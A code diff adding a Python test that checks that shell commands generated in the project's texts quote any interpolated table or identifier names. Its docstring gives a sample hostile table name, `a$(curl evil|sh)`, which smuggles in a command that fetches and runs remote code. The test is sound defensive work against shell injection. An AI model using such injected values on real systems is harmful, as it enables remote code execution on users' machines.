@@ -260,3 +260,15 @@ def called(path: Path) -> set[str]:
         for node in ast.walk(tree(path))
         if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute | ast.Name)
     }
+
+
+def test_commands_in_texts_quote_the_names_in_them() -> None:
+    """A table may be called `a$(curl evil|sh)`, and a person pastes the command into a shell."""
+    bare = re.compile(r"sluice [a-z-]+(?: [a-z-]+)* \{(?!quote\(|shlex\.quote\(|id_\})[^}]*\}")
+    own = [path for path in PRODUCT if path.relative_to(ROOT).parts[0] in LAYERS]
+    texts = {str(path): path.read_text(encoding="utf-8") for path in own}
+
+    found = {name: bare.findall(text) for name, text in texts.items() if bare.search(text)}
+
+    assert sum("{quote(" in text for text in texts.values()) > 5
+    assert found == {}
